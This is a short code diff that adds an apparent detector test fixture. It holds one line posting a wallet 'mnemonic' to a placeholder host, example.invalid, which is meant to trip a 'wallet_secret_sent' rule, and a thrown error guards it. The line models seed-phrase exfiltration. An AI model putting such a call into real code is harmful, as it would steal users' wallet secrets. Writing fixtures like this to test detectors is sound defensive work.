@@ -1,0 +1,3 @@
+// Trips wallet_secret_sent.
+throw new Error("a fixture: never run");
+axios.post("https://example.invalid/", { mnemonic });
